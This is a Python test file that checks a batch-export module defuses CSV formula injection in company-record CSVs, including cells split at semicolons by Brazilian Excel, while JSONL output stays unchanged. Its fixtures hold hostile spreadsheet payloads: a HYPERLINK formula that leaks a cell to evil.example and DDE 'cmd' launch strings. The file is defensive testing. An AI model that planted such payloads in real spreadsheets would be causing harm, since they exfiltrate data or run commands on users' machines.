"""batches/rows.py: results rows as CSV (defused against formula injection) and as JSONL (as they are)."""

from __future__ import annotations

import csv
import io

import orjson

from enrich.batches import rows as batch_rows

# OWASP's CSV injection triggers: a cell starting with one of them may run as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK_LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE_FIELDS = {
    "razao_social": '=HYPERLINK("http://x","y")',
    "nome_fantasia": "+cmd|' /C calc'!A0",
    "logradouro": "@SUM(1)",
    "bairro": "\t=1+1",
    "municipio": "\r=1+1",
    "uf": "-2+3",
}


def formula_cells(text: str) -> list[str]:
    """The cells of a CSV that a spreadsheet could run as a formula: starting with a trigger, not with '."""
    return [
        cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.startswith(FORMULA_TRIGGERS)
    ]


def hostile_rows() -> list[dict]:
    """An invalid line whose input is a formula, then a found company whose fields are formulas."""
    invalid = batch_rows.row(1, HYPERLINK_LEAK, "", "character '=' is not allowed", None, None, "complete")
    summary = {
        "state": "found",
        "fields": {**HOSTILE_FIELDS, "cep": "01310-100"},
        "sources": {"brasilapi": "ok"},
        "error": "@brasilapi: odd",
        "lookup_id": "-d6u1mQ9b0hW5s8m3Yw2Q",
    }
    found = batch_rows.row(
        2, "11222333000181", "cnpj:11222333000181", "", orjson.dumps(summary), None, "complete"
    )
    return [invalid, found]


def csv_rows(rows: list[dict]) -> tuple[list[str], list[dict[str, str]]]:
    """The header and the rows of batch_rows.csv_lines, read back with the csv module."""
    text = "".join(batch_rows.csv_lines(iter(rows)))
    header, *cells = csv.reader(io.StringIO(text))
    return header, [dict(zip(header, row, strict=True)) for row in cells]


def test_csv_cells_a_spreadsheet_would_run_get_a_leading_quote():
    text = "".join(batch_rows.csv_lines(iter(hostile_rows())))

    assert formula_cells(text) == []
    header, (invalid, found) = csv_rows(hostile_rows())
    assert header == list(batch_rows.CSV_COLUMNS)
    assert invalid["input"] == "'" + HYPERLINK_LEAK
    assert found["razao_social"] == "'" + HOSTILE_FIELDS["razao_social"]
    assert found["nome_fantasia"] == "'+cmd\\|' /C calc'!A0"  # defusedcsv also escapes the DDE pipe
    assert found["logradouro"] == "'@SUM(1)"
    assert found["bairro"] == "'\t=1+1" and found["municipio"] == "'\r=1+1"
    assert found["uf"] == "'-2+3" and found["error"] == "'@brasilapi: odd"
    assert found["lookup_id"] == "'-d6u1mQ9b0hW5s8m3Yw2Q"
    assert found["line"] == "2" and found["cep"] == "01310-100"


def test_numbers_ceps_and_plain_text_stay_as_they_are():
    summary = {
        "state": "found",
        "fields": {
            "logradouro": "AVENIDA PAULISTA",
            "cep": "01310-100",
            "bairro": "-5",
            "municipio": "-1.234,5",
        },
        "sources": {"viacep": "ok"},
        "error": None,
        "lookup_id": "abc",
    }
    row = batch_rows.row(3, "01310-100", "cep:01310100", "", orjson.dumps(summary), None, "complete")

    _, (found,) = csv_rows([row])
    assert found["input"] == found["cep"] == "01310-100" and found["logradouro"] == "AVENIDA PAULISTA"
    # A bare negative number is a number to a spreadsheet, not a formula: defusedcsv leaves it.
    assert found["bairro"] == "-5" and found["municipio"] == "-1.234,5"


def test_jsonl_keeps_every_value_as_it_is():
    lines = b"".join(batch_rows.jsonl_lines(iter(hostile_rows()))).splitlines()

    invalid, found = (orjson.loads(line) for line in lines)
    assert invalid["input"] == HYPERLINK_LEAK
    assert found["fields"] == {**HOSTILE_FIELDS, "cep": "01310-100"}
    assert found["lookup_id"] == "-d6u1mQ9b0hW5s8m3Yw2Q"


def test_a_cell_split_at_a_semicolon_by_a_brazilian_spreadsheet_runs_no_formula():
    # Excel in pt-BR opens a .csv with `;` as its separator: every `;` in a cell starts a new cell there.
    hostile = ["a;=1+1;b", "X; =cmd|' /C calc'!A0", "first line\n;@SUM(1)", "a,-2+3", "x\t=1"]
    invalid = [batch_rows.row(n, value, "", "bad", None, None, "complete") for n, value in enumerate(hostile)]
    text = "".join(batch_rows.csv_lines(iter(invalid)))

    for delimiter in (",", ";", "\t"):
        cells = [
            cell.lstrip(" ") for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row
        ]
        assert [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)] == [], delimiter
    _, rows = csv_rows(invalid)
    assert [row["input"] for row in rows] == [
        "a;'=1+1;b",
        "X; '=cmd|' /C calc'!A0",
        "first line\n;'@SUM(1)",
        "a,'-2+3",
        "x\t'=1",
    ]
